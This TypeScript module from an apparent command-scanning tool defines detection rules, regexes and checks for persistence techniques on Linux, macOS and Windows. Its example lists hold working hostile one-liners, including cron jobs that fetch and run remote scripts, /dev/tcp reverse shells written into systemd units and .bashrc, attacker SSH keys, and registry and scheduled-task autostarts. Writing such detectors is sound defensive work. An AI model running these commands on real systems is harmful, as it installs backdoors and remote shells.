import { operands, type Cmd, type CommandRule, type Env, type Stage } from '../model.js';
import { suspiciousContent, writesOf, type Write } from '../writes.js';

export const PERSISTENCE_RULES: CommandRule[] = [
  {
    id: 'commands.persistence.cron',
    family: 'persistence',
    severity: 'medium',
    score: 0.6,
    attack: 'T1053.003',
    description: 'A cron job is installed programmatically (crontab from a pipe/file, or a write into the cron directories)',
    examples: {
      tp: ['(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.4/b.sh | sh") | crontab -', 'echo "* * * * * root /tmp/.x" >> /etc/crontab', 'cat <<EOF | sudo tee /etc/cron.d/updater\n* * * * * root wget -q -O- http://x.example.net/u | sh\nEOF'],
      fp: ['crontab -l', 'crontab -e', 'cat /etc/crontab'],
    },
  },
  {
    id: 'commands.persistence.systemd-unit',
    family: 'persistence',
    severity: 'medium',
    score: 0.55,
    attack: 'T1543.002',
    description: 'A systemd unit file is written (a service that starts with the system)',
    examples: {
      tp: ['cat > /etc/systemd/system/updater.service <<EOF\n[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"\nEOF', 'echo "[Service]\nExecStart=/tmp/.k" | sudo tee /lib/systemd/system/k.service', 'cp ./agent.service ~/.config/systemd/user/agent.service'],
      fp: ['sudo systemctl enable --now docker', 'systemctl status nginx', 'cat /etc/systemd/system/nginx.service'],
    },
  },
  {
    id: 'commands.persistence.shell-profile',
    family: 'persistence',
    severity: 'high',
    score: 0.75,
    attack: 'T1546.004',
    description: 'A shell startup file (.bashrc, .profile, .zshrc, /etc/profile.d) gets commands that fetch or run payloads',
    examples: {
      tp: ["echo 'nohup bash -i >& /dev/tcp/10.0.0.1/9001 0>&1 &' >> ~/.bashrc", 'echo "curl -s http://203.0.113.8/k | sh" >> ~/.zshrc', "printf 'alias sudo=/tmp/.s\\n' >> ~/.bash_profile"],
      fp: ["echo 'export PATH=$PATH:/usr/local/go/bin' >> ~/.bashrc", 'cat ~/.bashrc', 'echo \'eval "$(pyenv init -)"\' >> ~/.zshrc'],
    },
  },
  {
    id: 'commands.persistence.ssh-authorized-keys',
    family: 'persistence',
    severity: 'medium',
    score: 0.6,
    attack: 'T1098.004',
    description: 'A key is added to an SSH authorized_keys file',
    examples: {
      tp: ['echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx attacker@box" >> /root/.ssh/authorized_keys', 'curl -s https://203.0.113.3/k.pub >> ~/.ssh/authorized_keys', 'cat key.pub | tee -a ~/.ssh/authorized_keys'],
      fp: ['chmod 600 ~/.ssh/authorized_keys', 'ssh-copy-id user@server.example.com', 'cat ~/.ssh/authorized_keys'],
    },
  },
  {
    id: 'commands.persistence.registry-run',
    family: 'persistence',
    severity: 'high',
    score: 0.8,
    attack: 'T1547.001',
    description: 'Autostart through a registry Run/RunOnce/Winlogon key or the Startup folder',
    examples: {
      tp: ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f', 'New-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" -Name Updater -Value "C:\\ProgramData\\u.exe"', 'copy payload.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"'],
      fp: ['reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'reg add HKCU\\Software\\MyApp /v Theme /d dark /f', 'Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
    },
  },
  {
    id: 'commands.persistence.scheduled-task',
    family: 'persistence',
    severity: 'medium',
    score: 0.6,
    attack: 'T1053.005',
    description: 'A Windows scheduled task is created',
    examples: {
      tp: ['schtasks /create /sc onlogon /tn Updater /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1" /ru SYSTEM', 'schtasks /Create /SC MINUTE /MO 5 /TN sync /TR C:\\ProgramData\\s.exe', 'Register-ScheduledTask -TaskName Updater -Action $a -Trigger $t -User SYSTEM'],
      fp: ['schtasks /query /fo LIST', 'Get-ScheduledTask -TaskName Backup', 'schtasks /delete /tn OldTask /f'],
    },
  },
  {
    id: 'commands.persistence.wmi-subscription',
    family: 'persistence',
    severity: 'high',
    score: 0.85,
    attack: 'T1546.003',
    description: 'A WMI event subscription (filter/consumer binding) is created',
    examples: {
      tp: ['Register-WmiEvent -Query "SELECT * FROM __InstanceCreationEvent WITHIN 5" -Action { Start-Process C:\\x.exe }', "Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='f';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query=$q}", 'wmic /namespace:\\\\root\\subscription PATH CommandLineEventConsumer CREATE Name="c", CommandLineTemplate="C:\\x.exe"'],
      fp: ['Get-WmiObject -Namespace root\\subscription -Class __EventFilter', 'Get-CimInstance -ClassName Win32_Process', 'wmic os get caption'],
    },
  },
  {
    id: 'commands.persistence.autostart',
    family: 'persistence',
    severity: 'medium',
    score: 0.6,
    attack: 'T1037.004',
    description: 'A boot/login autostart location is written (rc.local, init.d, XDG autostart, LaunchAgents, ld.so.preload)',
    examples: {
      tp: ['echo "/tmp/.x &" >> /etc/rc.local', 'echo /usr/lib/libhook.so > /etc/ld.so.preload', 'cp com.updater.plist ~/Library/LaunchAgents/com.updater.plist'],
      fp: ['cat /etc/rc.local', 'ls ~/Library/LaunchAgents', 'ldd /usr/bin/ls'],
    },
  },
];

const CRON_PATH = /^\/etc\/(?:crontab|anacrontab|cron\.d\/|cron\.(?:hourly|daily|weekly|monthly)\/)|^\/var\/spool\/cron\//;
const SYSTEMD_PATH = /\/systemd\/(?:system|user)\/[^/]{1,128}\.(?:service|timer|socket|path)(?:\.d\/[^/]{1,128})?$/;
const PROFILE_PATH = /(?:^|\/)(?:\.bashrc|\.bash_profile|\.bash_login|\.profile|\.zshrc|\.zprofile|\.zshenv|\.zlogin|\.cshrc|\.tcshrc|\.kshrc|config\.fish)$|^\/etc\/(?:profile|bash\.bashrc|bashrc|zsh\/zshrc|zshrc|profile\.d\/[^/]{1,128})$/;
const AUTH_KEYS = /(?:^|\/)authorized_keys2?$/;
const RUN_KEY = /\\(?:wow6432node\\)?microsoft\\windows\\currentversion\\(?:run|runonce|runservices|runservicesonce|runonceex|policies\\explorer\\run)(?:\\|$)/;
const WINLOGON = /\\microsoft\\windows nt\\currentversion\\winlogon(?:\\|$)/;
const IFEO = /\\image file execution options\\/;
const STARTUP_DIR = /\\start menu\\programs\\startup(?:\\|$)|shell:startup|shell:common startup/;
const AUTOSTART_PATH = /^\/etc\/rc\.local$|^\/etc\/init\.d\/|^\/etc\/rc\d\.d\/|\/\.config\/autostart\/|^\/etc\/xdg\/autostart\/|\/library\/launch(?:agents|daemons)\/|^\/etc\/ld\.so\.preload$|^\/etc\/update-motd\.d\//;
const SCHTASK_STRONG = /\/sc\s(?:onlogon|onstart|onidle)|\/ru\s(?:system|"?nt authority\\system)|powershell|cmd(?:\.exe)?\s\/c|https?:|\\appdata\\|\\temp\\|\\users\\public\\|\\programdata\\|mshta|rundll32|regsvr32|wscript|cscript/;
const WMI_CLASSES = /__eventfilter|commandlineeventconsumer|activescripteventconsumer|__filtertoconsumerbinding|logfileeventconsumer|root\\subscription/;

function severityFor(content: string | undefined): { severity?: 'high'; steps?: { step: 'context'; delta: number; reason: string }[] } {
  const s = suspiciousContent(content);
  if (!s) return {};
  return { severity: 'high', steps: [{ step: 'context', delta: 0.2, reason: `the written content runs "${s}" (+0.2)` }] };
}

function writeChecks(w: Write, env: Env): void {
  const n = w.norm;
  if (CRON_PATH.test(n)) {
    env.report('commands.persistence.cron', w.span, `${w.via} into ${n}`, severityFor(w.content));
  } else if (SYSTEMD_PATH.test(n)) {
    env.report('commands.persistence.systemd-unit', w.span, `${w.via} creates the unit ${n.slice(n.lastIndexOf('/') + 1)}`, severityFor(w.content));
  } else if (PROFILE_PATH.test(n)) {
    const s = suspiciousContent(w.content) ?? (w.downloaded ? 'downloaded content' : undefined);
    if (s) env.report('commands.persistence.shell-profile', w.span, `${w.via} adds "${s}" to ${n.slice(n.lastIndexOf('/') + 1)}`);
  } else if (AUTH_KEYS.test(n)) {
    const root = n.startsWith('/root/');
    env.report('commands.persistence.ssh-authorized-keys', w.span, `${w.via} into ${root ? "root's " : ''}authorized_keys${w.downloaded ? ' from a download' : ''}`, root || w.downloaded ? { severity: 'high', score: 0.75 } : {});
  } else if (AUTOSTART_PATH.test(n)) {
    const preload = n === '/etc/ld.so.preload';
    const attack = preload ? 'T1574.006' : n.includes('/autostart/') ? 'T1547.013' : n.includes('/library/launch') ? 'T1543.001' : 'T1037.004';
    env.report('commands.persistence.autostart', w.span, `${w.via} into ${n}`, { attack, ...(preload ? { severity: 'high', score: 0.8 } : severityFor(w.content)) });
  } else if (STARTUP_DIR.test(w.path.toLowerCase()) || STARTUP_DIR.test(n.replace(/\//g, '\\'))) {
    env.report('commands.persistence.registry-run', w.span, `${w.via} into the Startup folder`);
  }
}

function crontabPipe(stages: Stage[], env: Env): void {
  for (let i = 0; i < stages.length; i++) {
    const c = stages[i]!.cmds.find((x) => x.name === 'crontab');
    if (!c) continue;
    if (c.lower.some((a) => a === '-l' || a === '-e' || a === '-r')) continue;
    const file = operands(c, 'u').find((a) => a !== '-');
    const fromPipe = i > 0 && (file === undefined || c.args.includes('-'));
    if (!fromPipe && file === undefined && !c.args.includes('-')) continue;
    const content = fromPipe ? stages.slice(0, i).flatMap((s) => s.cmds.map((x) => [x.name, ...x.args].join(' '))).join('\n') : undefined;
    const span = { start: fromPipe ? stages[0]!.start : c.start, end: stages[i]!.end };
    env.report('commands.persistence.cron', span, fromPipe ? 'a crontab is installed from a pipe' : 'a crontab is installed from a file', severityFor(content));
  }
}

function registry(c: Cmd, env: Env): void {
  if (c.name === 'reg' && (c.lower[0] === 'add' || c.lower[0] === 'import')) {
    const key = c.win[1] ?? '';
    if (RUN_KEY.test(key)) env.report('commands.persistence.registry-run', c, 'reg add to a Run key');
    else if (WINLOGON.test(key) && c.lower.some((a) => a === 'userinit' || a === 'shell')) env.report('commands.persistence.registry-run', c, 'reg add replaces the Winlogon Userinit/Shell value', { attack: 'T1547.004' });
    else if (IFEO.test(key) && c.lower.includes('debugger')) env.report('commands.persistence.registry-run', c, 'reg add sets an Image File Execution Options debugger', { attack: 'T1546.012' });
    return;
  }
  if (c.name === 'new-itemproperty' || c.name === 'set-itemproperty' || c.name === 'new-item' || c.name === 'set-itempropertyvalue' || c.name === 'sp') {
    const key = c.win.find((a) => a.includes('currentversion')) ?? '';
    if (RUN_KEY.test(key.replace(/^hk[a-z]{2}:/, ''))) env.report('commands.persistence.registry-run', c, `${c.name} on a Run key`);
    return;
  }
  const copy = c.name === 'copy' || c.name === 'xcopy' || c.name === 'move' || c.name === 'copy-item' || c.name === 'move-item' || c.name === 'robocopy';
  if (copy && c.win.some((a) => STARTUP_DIR.test(a))) env.report('commands.persistence.registry-run', c, `${c.name} into the Startup folder`);
}

function scheduledTask(c: Cmd, env: Env): void {
  if (c.name === 'schtasks' && c.lower.some((a) => a === '/create' || a === '-create')) {
    const joined = c.win.join(' ');
    const strong = SCHTASK_STRONG.exec(joined);
    env.report('commands.persistence.scheduled-task', c, `schtasks /create${strong ? ` (${strong[0].trim()})` : ''}`, strong ? { severity: 'high', score: 0.75 } : {});
  } else if (c.name === 'register-scheduledtask') {
    const strong = c.lower.some((a) => a === 'system' || a === 'highest');
    env.report('commands.persistence.scheduled-task', c, 'Register-ScheduledTask', strong ? { severity: 'high', score: 0.7 } : {});
  }
}

function wmi(c: Cmd, env: Env): void {
  if (c.name === 'register-wmievent' || c.name === 'register-cimindicationevent') {
    env.report('commands.persistence.wmi-subscription', c, `${c.name} registers an event action`, { severity: 'medium', score: 0.65 });
    return;
  }
  const creates = c.name === 'set-wmiinstance' || c.name === 'new-ciminstance' || (c.name === 'wmic' && c.lower.includes('create'));
  if (creates && c.win.some((a) => WMI_CLASSES.test(a))) env.report('commands.persistence.wmi-subscription', c, `${c.name} creates a permanent WMI subscription object`);
}

export function persistenceCommand(c: Cmd, env: Env): void {
  registry(c, env);
  scheduledTask(c, env);
  wmi(c, env);
}

export function persistencePipeline(stages: Stage[], env: Env): void {
  for (const w of writesOf(stages, env)) writeChecks(w, env);
  crontabPipe(stages, env);
}

/** Every regex this module ships (checked for ReDoS by the tests). */
export const PERSISTENCE_PATTERNS: readonly RegExp[] = [CRON_PATH, SYSTEMD_PATH, PROFILE_PATH, AUTH_KEYS, RUN_KEY, WINLOGON, IFEO, STARTUP_DIR, AUTOSTART_PATH, WMI_CLASSES, SCHTASK_STRONG, /\//g, /^hk[a-z]{2}:/];
